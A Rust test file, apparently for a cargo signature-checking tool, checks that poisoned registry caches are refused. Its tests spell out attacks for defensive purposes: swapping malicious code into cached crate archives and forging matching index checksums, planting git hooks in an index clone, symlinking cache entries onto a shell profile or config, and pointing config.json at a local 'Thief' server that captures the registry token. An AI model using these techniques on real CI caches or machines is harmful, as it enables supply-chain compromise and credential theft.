//! `$CARGO_HOME/registry/cache` and `/index`: what cargo keeps of a registry, restored from a CI cache
//! that somebody else could write, or changed where it lies.

use std::fs;
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{SocketAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::thread;

use consign_statement::{Digest, carrier};
use consign_testbed::{crate_with_changed_file, crate_without_file};
use expect_test::expect;
use serde_json::{Value, json};

use super::{EVIL, Scene, Victim, git, replace_in, write_program};
use crate::World;
use crate::sources::git_index;

/// Changes `src/lib.rs` in a `.crate`, and gives the checksum of what came of it.
pub fn edit_archive(path: &Path) -> String {
    edit_archive_with(path, "src/lib.rs", EVIL)
}

/// Changes a file in a `.crate`, and gives the checksum of what came of it.
pub fn edit_archive_with(path: &Path, file: &str, content: &str) -> String {
    let bytes = fs::read(path).unwrap();
    let bytes = crate_with_changed_file(&bytes, file, content.as_bytes());
    fs::write(path, &bytes).unwrap();
    Digest::of(&bytes).to_string()
}

/// Changes the archive of `foo` in the cache, and has it unpacked anew.
fn edit_cached(victim: &Victim) -> String {
    fs::remove_dir_all(victim.unpacked("foo-1.0.0")).unwrap();
    edit_archive(&victim.cached("foo-1.0.0"))
}

/// The file in which cargo keeps the index entries of `foo`.
fn index_cache(victim: &Victim) -> PathBuf {
    victim.below("registry/index", ".cache/3/f/foo")
}

/// Writes other entries into the index cache, each under the version that it is looked up by. What
/// says that the cache is up to date, stays.
fn write_index_cache(victim: &Victim, entries: &[(&str, Value)]) {
    let path = index_cache(victim);
    let bytes = fs::read(&path).unwrap();
    // A version of the format, one of the schema, and what the server said the index file's was.
    let head = 5 + bytes[5..].iter().position(|byte| *byte == 0).unwrap() + 1;
    let mut written = bytes[..head].to_vec();
    for (version, entry) in entries {
        written.extend_from_slice(format!("{version}\0{entry}\0").as_bytes());
    }
    fs::write(path, written).unwrap();
}

/// An entry without its signature.
fn stripped(mut line: Value) -> Value {
    let object = line.as_object_mut().unwrap();
    object.remove("signature");
    object.remove("key_locator");
    line
}

#[test]
fn edited_crate_in_the_cache_is_refused() {
    let scene = Scene::with_foo().fetched();
    scene.attack(|victim| drop(edit_cached(victim)));
    let (stock, consign) = scene.run(["run", "--locked"]);
    stock.is_hit();
    let told = consign.refuses("its archive is not the one that `github:octocat` signed");
    expect![[r#"
        error: failed to download `foo v1.0.0 (registry `demo`)`

        Caused by:
          unable to get packages from source

        Caused by:
          failed to unpack package `foo v1.0.0 (registry `demo`)`

        Caused by:
          refusing `foo v1.0.0 (registry `demo`)`: its archive is not the one that `github:octocat` signed
          signed: [SHA256]
          found:  [SHA256]

          help: remove `[SANDBOX]/homes/user/registry/cache/*/foo-1.0.0.crate`, so that it is downloaded again; if the error stays, tell the registry and the package's authors
    "#]]
    .assert_eq(&told.stderr);
    // It is not the flag that makes the difference.
    scene
        .consign
        .run(["run", "--locked"])
        .refuses("its archive is not the one that");
}

#[test]
fn vendoring_from_an_edited_cache_is_refused() {
    let scene = Scene::with_foo().fetched();
    scene.attack(|victim| drop(edit_cached(victim)));
    let (stock, consign) = scene.run(["vendor", "--locked"]);
    stock.is_misled("");
    let blessed = fs::read_to_string(scene.stock.app.join("vendor/foo/src/lib.rs")).unwrap();
    assert_eq!(blessed, EVIL);
    let told = consign.refuses("its archive is not the one that `github:octocat` signed");
    expect![[r#"
        error: failed to sync

        Caused by:
          failed to download packages for [SANDBOX]/app

        Caused by:
          failed to download `foo v1.0.0 (registry `demo`)`

        Caused by:
          unable to get packages from source

        Caused by:
          failed to unpack package `foo v1.0.0 (registry `demo`)`

        Caused by:
          refusing `foo v1.0.0 (registry `demo`)`: its archive is not the one that `github:octocat` signed
          signed: [SHA256]
          found:  [SHA256]

          help: remove `[SANDBOX]/homes/user/registry/cache/*/foo-1.0.0.crate`, so that it is downloaded again; if the error stays, tell the registry and the package's authors
    "#]]
    .assert_eq(&told.stderr);
}

/// What `actions/cache` restores: archives, unpacked sources and index, all to the attacker's liking
/// and at one with each other.
#[test]
fn restored_cache_in_which_all_fits_is_refused() {
    let scene = Scene::with_foo().fetched();
    scene.attack(|victim| {
        let cksum = edit_archive(&victim.cached("foo-1.0.0"));
        victim.edit("foo-1.0.0", "src/lib.rs", EVIL);
        let mut line = scene.world.registry.line("foo", "1.0.0");
        line["cksum"] = cksum.into();
        write_index_cache(victim, &[("1.0.0", line)]);
        fs::remove_file(victim.app.join("Cargo.lock")).unwrap();
    });
    let (stock, consign) = scene.run(["run", "--offline"]);
    stock.is_hit();
    consign.refuses("it was tampered with: the signature does not fit the index entry");
}

/// The same with the signature taken away.
fn with_a_cache_without_signatures() -> Scene {
    let scene = Scene::with_foo().fetched();
    scene.attack(|victim| {
        edit_cached(victim);
        let path = victim.cached("foo-1.0.0");
        let archive = crate_without_file(&fs::read(&path).unwrap(), carrier::NAME);
        let cksum = Digest::of(&archive).to_string();
        fs::write(path, archive).unwrap();
        let mut line = stripped(scene.world.registry.line("foo", "1.0.0"));
        line["cksum"] = cksum.into();
        write_index_cache(victim, &[("1.0.0", line)]);
        fs::remove_file(victim.app.join("Cargo.lock")).unwrap();
    });
    scene
}

#[test]
fn restored_cache_without_signatures_is_refused_where_they_are_required() {
    let (stock, consign) = with_a_cache_without_signatures().run(["run", "--offline"]);
    stock.is_hit();
    consign.refuses("version 1.0.0 is not signed");
}

#[test]
fn restored_cache_without_signatures_is_refused_where_there_was_one() {
    let scene = with_a_cache_without_signatures();
    let (stock, consign) = scene.run_without_a_rule(["run", "--offline"]);
    stock.is_hit();
    consign.refuses(
        "version 1.0.0 is not signed, and `github:octocat` signs this package since 1.0.0",
    );
}

#[test]
fn restored_cache_without_signatures_is_built_from_where_none_was_seen() {
    let scene = with_a_cache_without_signatures();
    fs::remove_dir_all(scene.consign.home.path().join("signing")).unwrap();
    let (stock, consign) = scene.run_without_a_rule(["run", "--offline"]);
    stock.is_hit();
    consign.is_hit();
}

/// The lockfile holds the good checksum, and stock cargo compares it with what the index says.
#[test]
fn index_cache_against_the_lockfile_is_refused() {
    let scene = Scene::with_foo().fetched();
    scene.attack(|victim| {
        let cksum = edit_cached(victim);
        let mut line = scene.world.registry.line("foo", "1.0.0");
        line["cksum"] = cksum.into();
        write_index_cache(victim, &[("1.0.0", line)]);
    });
    let (stock, consign) = scene.run(["run", "--frozen"]);
    stock.refuses("checksum for `foo v1.0.0 (registry `demo`)` changed between lock files");
    consign.refuses("checksum for `foo v1.0.0 (registry `demo`)` changed between lock files");
}

/// `foo` 1.0.0, which has a hole, under the number 1.0.1, which the lockfile names. `entry` is what the
/// cache keeps for it.
fn with_an_old_version_under_a_new_number(entry: impl Fn(Value) -> Value) -> Scene {
    let world = World::new();
    world.publish(world.library("foo", "1.0.0").file("src/lib.rs", EVIL));
    world.publish(world.library("foo", "1.0.1"));
    let scene = Scene::of(world).fetched();
    scene.attack(|victim| {
        let old = scene.world.registry.line("foo", "1.0.0");
        write_index_cache(victim, &[("1.0.1", entry(old))]);
        // It need not be downloaded: what was unpacked of the old version is where the new one's was.
        victim.edit("foo-1.0.1", "src/lib.rs", EVIL);
    });
    scene
}

#[test]
fn index_cache_that_gives_an_old_version_a_new_number_is_refused() {
    let scene = with_an_old_version_under_a_new_number(|mut entry| {
        entry["vers"] = json!("1.0.1");
        entry
    });
    scene.attack(|victim| fs::remove_file(victim.app.join("Cargo.lock")).unwrap());
    let (stock, consign) = scene.run(["run", "--offline"]);
    stock.is_hit();
    consign.refuses("it was tampered with: the signature does not fit the index entry");
}

/// The entry is the old one, to the byte, and so is its signature. It is only looked up under another
/// number than it says.
#[test]
fn index_cache_that_keeps_an_old_entry_under_a_new_number_is_refused() {
    let scene = with_an_old_version_under_a_new_number(|entry| entry);
    let (stock, consign) = scene.run(["run", "--offline", "--locked"]);
    stock.refuses("candidate versions found which didn't match: 1.0.0");
    consign.refuses("candidate versions found which didn't match: 1.0.0");
}

/// Two entries for the same version, found under two keys: it matters which one is meant at each step.
#[test]
fn index_cache_with_two_entries_for_one_version_is_refused() {
    let scene = Scene::with_foo().fetched();
    let good = scene.world.registry.line("foo", "1.0.0");
    let write = |victim: &Victim, entries: [&Value; 2]| {
        let [first, second] = entries.map(Value::clone);
        write_index_cache(victim, &[("1.0.0", first), ("1.0.1", second)]);
        let _ = fs::remove_file(victim.app.join("Cargo.lock"));
    };
    let mut tampered = good.clone();
    scene.attack(|victim| drop(edit_cached(victim)));
    let evil = fs::read(scene.stock.cached("foo-1.0.0")).unwrap();
    tampered["cksum"] = Digest::of(&evil).to_string().into();
    let unsigned = stripped(tampered.clone());
    scene.attack(|victim| write(victim, [&tampered, &unsigned]));
    let (stock, consign) = scene.run(["run", "--offline"]);
    stock.is_hit();
    // Which of the two it is refused for, only chance says.
    consign.refuses("");
    // The good one and the archive that goes with the other. Stock cargo takes now the one, now the
    // other; ours must not take the signature from the one and the checksum from the other.
    for entries in [[&good, &unsigned], [&unsigned, &good]] {
        write(&scene.consign, entries);
        let strictly = scene.consign.run_strictly(["run", "--offline"]);
        strictly.refuses("");
    }
}

/// A local registry skips its checksum where the folder to unpack into is there already.
#[test]
fn local_registry_that_skips_its_checksum() {
    let scene = Scene::with_foo();
    scene.attack(|victim| {
        let folder = victim.home.path().join("local-registry");
        let line = scene.world.registry.line("foo", "1.0.0");
        fs::create_dir_all(folder.join("index/3/f")).unwrap();
        fs::write(folder.join("index/3/f/foo"), format!("{line}\n")).unwrap();
        let archive = folder.join("foo-1.0.0.crate");
        fs::copy(scene.world.registry.crate_path("foo", "1.0.0"), &archive).unwrap();
        crate::sources::replace(
            &scene.world,
            &victim.home,
            &format!("local-registry = '{}'", folder.display()),
        );
        victim.run(["fetch"]).is_unharmed("");
        edit_archive(&archive);
        fs::remove_file(victim.unpacked("foo-1.0.0").join(".cargo-ok")).unwrap();
    });
    let (stock, consign) = scene.run(["run", "--locked"]);
    stock.is_hit();
    consign.refuses("its archive is not the one that");
}

/// An index of the old kind is a git repository, and `net.git-fetch-with-cli` has git fetch it: git
/// does what it finds in the repository's own folder. The attacker is given that folder.
#[cfg(unix)]
fn with_a_clone_of_an_index(attack: impl Fn(&Victim, &Path)) -> Scene {
    let scene = Scene::with_foo();
    let archive = fs::read(scene.world.registry.crate_path("foo", "1.0.0")).unwrap();
    let served = (scene.world.registry.line("foo", "1.0.0"), archive);
    scene.attack(|victim| {
        let index = git_index(victim.home.path(), &served);
        crate::sources::replace(
            &scene.world,
            &victim.home,
            &format!("registry = \"{index}\""),
        );
        victim.home.add_config("[net]\ngit-fetch-with-cli = true");
        victim.run(["fetch"]).is_unharmed("");
        attack(victim, &victim.below("registry/index", ".git"));
        // Something new, so that there is something to be fetched.
        let more = ["commit", "--allow-empty", "--quiet", "-m", "more"];
        git(&victim.home.path().join("git-index"), &more);
    });
    scene
}

#[cfg(unix)]
#[test]
fn hook_in_the_clone_of_an_index_is_removed() {
    let scene = with_a_clone_of_an_index(|_, clone| {
        write_program(&clone.join("hooks/reference-transaction"), "");
    });
    let (stock, consign) = scene.run(["update"]);
    stock.is_hit();
    consign.repairs("hooks/reference-transaction` was removed from the cache");
}

/// The same by the configuration of the clone.
#[cfg(unix)]
#[test]
fn setting_in_the_clone_of_an_index_is_removed() {
    let scene = with_a_clone_of_an_index(|victim, clone| {
        let hooks = victim.home.path().join("registry/elsewhere");
        write_program(&hooks.join("reference-transaction"), "");
        git(
            clone,
            &["config", "core.hooksPath", hooks.to_str().unwrap()],
        );
    });
    let (stock, consign) = scene.run(["update"]);
    stock.is_hit();
    let told = consign.repairs("config` was removed from the cache");
    assert_eq!(
        told.stderr.matches("was removed").count(),
        1,
        "{}",
        told.stderr
    );
    // What is cargo's own stays, and there is nothing more to be said.
    let (_, again) = scene.run(["update"]);
    assert!(!again.output.stderr.contains("was removed"));
}

/// The clone is elsewhere, and a file says where.
#[cfg(unix)]
#[test]
fn file_that_leads_to_another_clone_of_an_index_is_removed() {
    let scene = with_a_clone_of_an_index(|victim, clone| {
        let elsewhere = victim.home.path().join("registry/elsewhere");
        fs::rename(clone, &elsewhere).unwrap();
        write_program(&elsewhere.join("hooks/reference-transaction"), "");
        fs::write(clone, format!("gitdir: {}\n", elsewhere.display())).unwrap();
    });
    let (stock, consign) = scene.run(["update"]);
    stock.is_hit();
    consign.repairs(".git` was removed from the cache");
}

/// A file that the victim's shell reads, say. What the registry writes into an entry ends up in it.
#[cfg(unix)]
#[test]
fn link_in_the_place_of_an_index_entry_is_not_followed() {
    let scene = Scene::with_foo();
    scene.attack(|victim| {
        victim.run(["generate-lockfile"]).output.succeeded();
        fs::remove_file(victim.app.join("Cargo.lock")).unwrap();
        let entry = victim.below("registry/index", ".cache/3/f/foo");
        fs::remove_file(&entry).unwrap();
        let profile = victim.home.path().join("profile");
        fs::write(&profile, "mine").unwrap();
        std::os::unix::fs::symlink(profile, entry).unwrap();
    });
    let profile = |victim: &Victim| fs::read(victim.home.path().join("profile")).unwrap();
    let (stock, consign) = scene.run(["fetch"]);
    stock.is_unharmed("");
    consign.is_unharmed("");
    assert_ne!(profile(&scene.stock), b"mine");
    assert_eq!(profile(&scene.consign), b"mine");
}

/// A configuration that outranks the victim's own, say.
#[cfg(unix)]
#[test]
fn link_in_the_place_of_an_archive_is_not_followed() {
    let scene = Scene::with_foo();
    scene.attack(|victim| {
        victim.run(["fetch"]).output.succeeded();
        let archive = victim.cached("foo-1.0.0");
        fs::remove_file(&archive).unwrap();
        fs::remove_dir_all(victim.home.path().join("registry/src")).unwrap();
        std::os::unix::fs::symlink(victim.home.path().join("config"), archive).unwrap();
    });
    let (stock, consign) = scene.run(["fetch", "--locked"]);
    stock.is_unharmed("");
    consign.is_unharmed("");
    assert!(scene.stock.home.path().join("config").exists());
    assert!(!scene.consign.home.path().join("config").exists());
}

/// Nothing of `switch` is compiled here: it is for another platform. But by its entry it turns on a
/// feature of `foo`, which is.
#[test]
fn index_cache_of_a_package_that_is_not_compiled_is_refused() {
    let scene = with_a_switch().having_run(["build"]);
    scene.attack(|victim| {
        let entry = victim.below("registry/index", ".cache/sw/it/switch");
        let features = "\"features\":[],\"optional\":false";
        replace_in(
            &entry,
            features,
            "\"features\":[\"danger\"],\"optional\":false",
        );
    });
    let (stock, consign) = scene.run(["run", "--frozen"]);
    stock.is_hit();
    consign.refuses("refusing `switch v1.0.0 (registry `demo`)`: it was tampered with");
}

/// The victims need `foo`, which has a dangerous feature, and for another platform `switch`, which needs
/// `foo` too. They resolve as packages of the edition of 2018 do.
pub fn with_a_switch() -> Scene {
    let world = World::new();
    let lib = "pub fn name() -> &'static str { if cfg!(feature = \"danger\") { \"evil\" } else { \"foo\" } }";
    let package = world.library("foo", "1.0.0").feature("danger", &[]);
    world.publish(package.file("src/lib.rs", lib));
    world.publish(world.library("switch", "1.0.0").dependency("foo", "1"));
    let switch =
        "[target.'cfg(windows)'.dependencies]\nswitch = { version = \"1\", registry = \"demo\" }";
    Scene::building(world, |app| {
        app.package_line("resolver = \"1\"")
            .dependency("foo", "1")
            .manifest(switch)
            .program("println!(\"{}\", foo::name());")
    })
}

/// `config.json` says where archives are, and whether the token goes along.
#[test]
fn token_is_sent_where_the_cached_configuration_says() {
    let scene = Scene::with_foo().fetched();
    let thief = Thief::start();
    scene.attack(|victim| {
        let config = victim.home.path().join("config.toml");
        let providers = "[registry]\nglobal-credential-providers = [\"cargo:token\"]\n";
        replace_in(&config, "[registry]\n", providers);
        let token = format!(
            "[registries.demo]\ntoken = \"secret of {}\"\n",
            victim.name()
        );
        replace_in(&config, "[registries.demo]\n", &token);

        let address = format!("http://{}", thief.address);
        let config = json!({ "dl": address, "auth-required": true }).to_string();
        fs::write(victim.below("registry/index", "config.json"), config).unwrap();
        fs::remove_file(victim.cached("foo-1.0.0")).unwrap();
        fs::remove_dir_all(victim.unpacked("foo-1.0.0")).unwrap();
    });
    let (stock, consign) = scene.run(["fetch", "--locked"]);
    let seen = thief.seen.lock().unwrap();
    let secret = |victim: &Victim| format!("uthorization: secret of {}", victim.name());
    stock.gives_away(&secret(&scene.stock), &seen);
    consign.gives_away(&secret(&scene.consign), &seen);
}

/// A server that keeps what it is asked.
struct Thief {
    address: SocketAddr,
    seen: Arc<Mutex<String>>,
}

impl Thief {
    fn start() -> Thief {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let seen = Arc::new(Mutex::new(String::new()));
        let written = Arc::clone(&seen);
        // It ends with the program.
        thread::spawn(move || {
            for mut connection in listener.incoming().flatten() {
                let reader = BufReader::new(connection.try_clone().unwrap());
                let head = reader.lines().map_while(Result::ok);
                for line in head.take_while(|line| !line.is_empty()) {
                    *written.lock().unwrap() += &(line + "\n");
                }
                let answer =
                    "HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n";
                // Who hangs up early has been heard all the same.
                let _ = connection.write_all(answer.as_bytes());
            }
        });
        Thief { address, seen }
    }
}
